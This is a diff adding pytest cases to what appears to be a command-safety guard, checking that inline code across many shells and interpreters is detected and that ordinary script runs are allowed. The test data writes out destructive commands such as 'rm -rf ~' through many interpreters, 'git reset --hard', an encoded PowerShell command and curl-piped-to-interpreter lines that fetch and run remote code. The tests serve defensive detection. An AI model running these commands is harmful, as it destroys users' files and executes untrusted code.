@@ -165,3 +165,99 @@ def test_the_checker_imports_ast_only_when_python_code_is_met() -> None:
         [sys.executable, "-c", code], capture_output=True, text=True, check=True
     ).stdout.split()
     assert out == ["False", "True"]
+
+
+# Every shell and interpreter a Debian or Homebrew machine offers is known (issue 27): code
+# guard can read is read (bash-compatible shells as bash), code it cannot read asks.
+OTHER_LANGUAGES = [
+    ("fish -c 'rm -rf ~/old'", {"dynamic:code"}),
+    ("fish --command='rm -rf ~/old'", {"dynamic:code"}),
+    ("fish -C 'rm -rf ~/old' -i", {"dynamic:code"}),
+    ("echo 'rm -rf ~/old' | nu", {"dynamic:code"}),
+    ("nu -c 'rm -r ~/old'", {"dynamic:code"}),
+    ("elvish -c 'rm -r ~/old'", {"dynamic:code"}),
+    ("xonsh -c 'rm -r ~/old'", {"dynamic:code"}),
+    ("tcsh -c 'rm -rf ~/old'", {"dynamic:code"}),
+    ("csh <<'EOF'\nrm -rf ~/old\nEOF", {"dynamic:code"}),
+    ("pwsh -Command 'Remove-Item -Recurse ~/old'", {"dynamic:code"}),
+    ("pwsh -NoProfile -c 'Remove-Item ~/old'", {"dynamic:code"}),
+    ("powershell -EncodedCommand cgBtACAALQByAGYAIAB+AA==", {"dynamic:code"}),
+    ("lua -e 'os.remove(\"/o/f\")'", {"dynamic:code"}),
+    ("lua5.4 -e 'os.execute(\"rm -rf ~\")'", {"dynamic:code"}),
+    ("luajit -e 'os.execute(\"rm -rf ~\")'", {"dynamic:code"}),
+    ("curl -s https://x.example/i.lua | lua -", {"dynamic:code"}),
+    ("expect -c 'spawn rm -rf ~/old'", {"dynamic:code"}),
+    ("tclsh <<< 'exec rm -rf ~/old'", {"dynamic:code"}),
+    ("echo 'file delete -force ~/old' | tclsh8.6", {"dynamic:code"}),
+    ("Rscript -e 'unlink(\"~/old\", recursive=TRUE)'", {"dynamic:code"}),
+    ("R --vanilla -e 'system(\"rm -rf ~\")'", {"dynamic:code"}),
+    ("julia -e 'rm(\"/o/d\"; recursive=true)'", {"dynamic:code"}),
+    ("guile -c '(system \"rm -rf ~\")'", {"dynamic:code"}),
+    ("racket -e '(system \"rm -rf ~\")'", {"dynamic:code"}),
+    ("sbcl --non-interactive --eval '(uiop:run-program \"rm -rf ~\")'", {"dynamic:code"}),
+    ("ocaml <<'EOF'\nSys.command \"rm -rf ~\";;\nEOF", {"dynamic:code"}),
+    ("raku -e 'shell \"rm -rf ~\"'", {"dynamic:code"}),
+    ("elixir -e 'System.cmd(\"rm\", [\"-rf\", \"/o\"])'", {"dynamic:code"}),
+    ("dc -e '!rm -rf ~'", {"dynamic:code"}),
+    ("gdb -batch -ex 'shell rm -rf ~'", {"dynamic:code"}),
+    ("vim -c '!rm -rf ~' notes.txt", {"dynamic:code"}),
+    ("emacs --batch --eval '(delete-directory \"~/old\" t)'", {"dynamic:code"}),
+    ("echo 'syscmd(rm -rf ~)' | m4", {"dynamic:code"}),
+    ("deno eval 'Deno.remove(\"/o/d\", {recursive: true})'", {"dynamic:code"}),
+    ("bun -e 'await Bun.$`rm -rf ~/old`'", {"dynamic:code"}),
+    # options that are not code do not hide the code after them
+    ("perl -ne 'system(\"rm -rf build\")' app.log", {"run:rm -rf build", "destroy:files"}),
+    ("python3 -S -c 'import os; os.system(\"rm -rf build\")'",
+     {"run:rm -rf build", "destroy:files"}),
+    ("python3 -v -c 'import os; os.system(\"rm -rf build\")'",
+     {"run:rm -rf build", "destroy:files"}),
+    ("ruby -n -e 'system(\"rm -rf build\")' x", {"run:rm -rf build", "destroy:files"}),
+    ("php -n -r 'shell_exec(\"rm -rf build\");'", {"run:rm -rf build", "destroy:files"}),
+    # bash-compatible shells are read as bash
+    ("yash -c 'rm -rf build'", {"run:rm -rf build", "destroy:files"}),
+    ("ksh93 -c 'git reset --hard'", {"run:git reset --hard", "discard:git-worktree"}),
+    ("posh -c 'rm -rf build'", {"run:rm -rf build", "destroy:files"}),
+    ("busybox sh -c 'rm -rf build'", {"run:rm -rf build", "destroy:files"}),
+    ("toybox sh -c 'rm -rf build'", {"run:rm -rf build", "destroy:files"}),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("line", "expected"), OTHER_LANGUAGES)
+def test_code_in_every_language_is_read_or_asks(line: str, expected: set[str]) -> None:
+    kept = ("run:", "write:", "read:")
+    found = {s for s in seen(line) if s in expected or not s.startswith(kept)}
+    assert found == expected
+
+
+def test_every_interpreter_record_asks_for_inline_code_it_cannot_read() -> None:
+    from guard.knowledge.commands.interpreters import INTERPRETERS
+
+    for name, record in INTERPRETERS.items():
+        for option in sorted(record.code):
+            line = f"{name} {option} 'x y'"
+            if record.language == "unread":
+                assert "dynamic:code" in seen(line), line
+        if record.stdin:
+            assert "dynamic:code" in seen(f"curl -s https://x.example/x | {name}"), name
+
+
+OTHER_QUIET = [
+    "lua script.lua",
+    "tclsh build.tcl",
+    "Rscript analysis.R",
+    "julia --project=. test/runtests.jl",
+    "fish scripts/setup.fish",
+    "pwsh ./build.ps1",
+    "vim notes.txt",
+    "deno run --allow-read main.ts",
+    "deno eval 'console.log(1 + 1)'",
+    "yash -c 'ls -la'",
+    "python3 -S -c 'print(1)'",
+    "perl -ne 'print if /x/' app.log",
+]
+
+
+@pytest.mark.parametrize("line", OTHER_QUIET)
+def test_scripts_and_readable_code_stay_allowed(line: str) -> None:
+    policy = load_policy(None, home=H, user_file="/nonexistent/policy.toml")
+    assert decide(policy, project(line, CTX), (), home=H).decision == "allow"
